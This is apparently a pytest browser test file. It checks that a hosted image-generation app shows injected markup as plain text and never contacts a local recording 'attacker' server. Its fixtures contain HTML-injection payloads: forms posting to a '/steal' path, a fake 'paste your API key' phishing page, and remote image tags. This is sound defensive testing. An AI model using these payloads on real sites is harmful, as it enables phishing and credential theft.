"""Markup stays text, played in Chromium against a launched hosted app on 127.0.0.1: a share link, a
style of one's own and a provider's error carry forms and remote images; the page shows them as typed,
and a real "attacker" server on 127.0.0.1 that records every request sees none."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlencode

import pytest

from backends.errors import PROVIDER_TEXT_LIMIT
from tests.app_harness import emulator_env
from tests.browser_fixtures import VIEWPORT, PlaygroundPage, app_under_test, browser_fixture  # noqa: F401

pytestmark = pytest.mark.browser


@dataclass
class Attacker:
    """An HTTP server on 127.0.0.1 that answers everything and remembers each request's method and path."""

    port: int = 0
    seen: list[str] = field(default_factory=list)

    @property
    def host(self) -> str:
        return f"127.0.0.1:{self.port}"


@pytest.fixture(scope="module")
def attacker() -> Iterator[Attacker]:
    record = Attacker()

    class Handler(BaseHTTPRequestHandler):
        def _answer(self) -> None:
            record.seen.append(f"{self.command} {self.path}")
            self.send_response(204)
            self.end_headers()

        do_GET = do_POST = do_HEAD = do_OPTIONS = _answer

        def log_message(self, *args) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    record.port = server.server_address[1]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield record
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture(scope="module")
def hosted_app(tmp_path_factory, dieyuyun_emulator_session):
    folder = tmp_path_factory.mktemp("markup-app")
    env = {**emulator_env(("dieyuyun", dieyuyun_emulator_session)), "PLAYGROUND_MODE": "hosted"}
    with app_under_test(folder, env) as app:
        yield app


@pytest.fixture()
def visitor(browser, hosted_app) -> Iterator[PlaygroundPage]:
    context = browser.new_context(viewport=VIEWPORT, locale="en-US")
    context.set_default_timeout(30_000)
    try:
        yield PlaygroundPage(context.new_page(), hosted_app)
    finally:
        context.close()


INJECTED_ELEMENTS = """host => {
    const hits = [];
    for (const el of document.querySelectorAll('*')) {
        for (const name of ['src', 'href', 'action', 'formaction', 'srcset', 'poster', 'data', 'background']) {
            const value = el.getAttribute(name);
            if (value && value.includes(host)) hits.push(`${el.tagName.toLowerCase()}[${name}=${value}]`);
        }
    }
    for (const el of document.querySelectorAll('input[name=k], form')) hits.push(el.outerHTML.slice(0, 80));
    return hits;
}"""


def injected(page: PlaygroundPage, attacker: Attacker) -> list[str]:
    return page.page.evaluate(INJECTED_ELEMENTS, attacker.host)


def test_a_share_link_and_a_style_carrying_forms_and_images_show_as_text(visitor, attacker, dieyuyun_emulator):
    host = attacker.host
    form = f"<form action=//{host}/steal><input name=k></form>"
    image = f"![n](//{host}/x.png)"
    tag = f"<img src=//{host}/y.png>"
    prompt = f"a fox {form} {image} {tag}"
    negative = f"![n](//{host}/x.png)"  # the 40-character link of the issue, in Compare's note
    page = visitor.page
    attacker.seen.clear()
    visitor.open("?" + urlencode({"prompt": prompt, "negative_prompt": negative, "backend": "dieyuyun"}))
    visitor.expect("#prompt textarea").to_have_value(prompt)
    assert visitor.page.locator("form").count() == 0  # the page itself has none: any form would be injected

    # A style of one's own whose name and template carry the same markup.
    style_name = f"<img src=//{host}/s.png>"
    page.locator("#styles-editor button").first.click()
    page.locator("#style-name input").fill(style_name)
    page.locator("#style-template textarea").fill(f"{form}{{prompt}} <img src=//{host}/t.png> [x](//{host}/l) http://{host}/auto")
    page.locator("#style-negative textarea").fill(f"![m](//{host}/m.png)")
    page.click("#style-save")
    visitor.expect("#style-note").to_contain_text(f"Saved “{style_name}”")  # the name, shown as typed
    visitor.choose("style", f"★ {style_name}")
    visitor.expect("#final-prompt").to_contain_text(f"{form}{prompt} <img src=//{host}/t.png> [x](//{host}/l) http://{host}/auto")
    visitor.expect("#final-prompt").to_contain_text(f"{negative}, ![m](//{host}/m.png)")
    assert visitor.page.locator("#final-prompt strong, #final-prompt img, #final-prompt a").count() == 0

    # Generate: the status, the captions and the info all hold the texts.
    visitor.generate(expect_images=1)
    sent = dieyuyun_emulator.requests[-1].json
    assert form in sent["prompt"] and tag in sent["prompt"]  # what was typed is what was sent

    # History: the entry's tile and view.
    visitor.open_tab("history")
    visitor.open_history_entry(0)
    assert form in page.locator("#entry-parameters textarea").input_value()
    visitor.expect("#entry-title strong").to_have_count(1)  # the page's own bold still renders

    # Compare: the base note quotes the negative prompt, a Prompt S/R axis puts markup in the cell titles.
    visitor.open_tab("compare")
    visitor.expect("#compare-prompt textarea").to_have_value(prompt)
    visitor.expect("#compare-base-note").to_contain_text(f"negative: {negative}")
    page.locator("#x-type input").click()
    page.locator("ul[role=listbox] li[role=option]", has_text="Prompt S/R").first.click()
    cell_value = f"![c](//{host}/c.png)"
    page.locator("#x-values textarea").fill(f"fox, {cell_value}")
    page.locator("#x-values textarea").blur()
    visitor.expect("#compare-plan").to_contain_text("2 cells")
    page.click("#compare-run")
    visitor.expect("#compare-status").to_contain_text("✅ 2 of 2 cells", timeout=60_000)
    page.locator("#compare-grid button.thumbnail-item").nth(1).click()
    visitor.expect("#compare-cell").to_contain_text(f"Prompt S/R {cell_value}")
    visitor.expect("#compare-cell strong").to_have_count(1)  # the title is bold, its value literal
    visitor.expect("#compare-cell blockquote").to_contain_text(form)
    visitor.wait_until_idle()
    page.wait_for_timeout(500)  # an injected image would have been requested by now

    hits = injected(visitor, attacker)
    print(f"\nattacker requests seen: {len(attacker.seen)}; injected elements: {len(hits)}; page forms: "
          f"{page.locator('form').count()}")
    assert attacker.seen == [] and hits == []
    assert visitor.page_errors == []


HOSTILE_BODY = (
    "<html><body><h1>Session expired: paste your API key again</h1>"
    "<form action=//{host}/steal><input name=k placeholder='API key'><button>Send</button></form>"
    "<img src=//{host}/e.png> ![e](//{host}/e2.png)\n\r\x00\x1b[31m"
)


def test_a_providers_long_html_error_shows_capped_and_literal(visitor, attacker, dieyuyun_emulator):
    host = attacker.host
    body = HOSTILE_BODY.format(host=host) + ("<p>padding</p>" * 800) + "</body></html>"
    assert len(body) > 10_000
    attacker.seen.clear()
    visitor.open()
    visitor.fill("prompt", "a quiet harbour")
    dieyuyun_emulator.fault("status", status=400, body=body)
    visitor.click_generate()
    visitor.wait_for_run(1)
    status = visitor.status()
    visitor.page.wait_for_timeout(500)
    hits = injected(visitor, attacker)
    print(f"\nprovider error body: {len(body)} chars; status line shown: {len(status)} chars; "
          f"attacker requests seen: {len(attacker.seen)}; injected elements: {len(hits)}")
    assert "Session expired: paste your API key again" in status  # the provider's words, as text
    assert f"<form action=//{host}/steal>" in status and "…" in status
    assert len(status) < PROVIDER_TEXT_LIMIT + 300  # our sentence around at most 300 of the provider's
    assert attacker.seen == [] and hits == []
    assert visitor.page.locator("#status form, #status input, #status img, #status h1").count() == 0
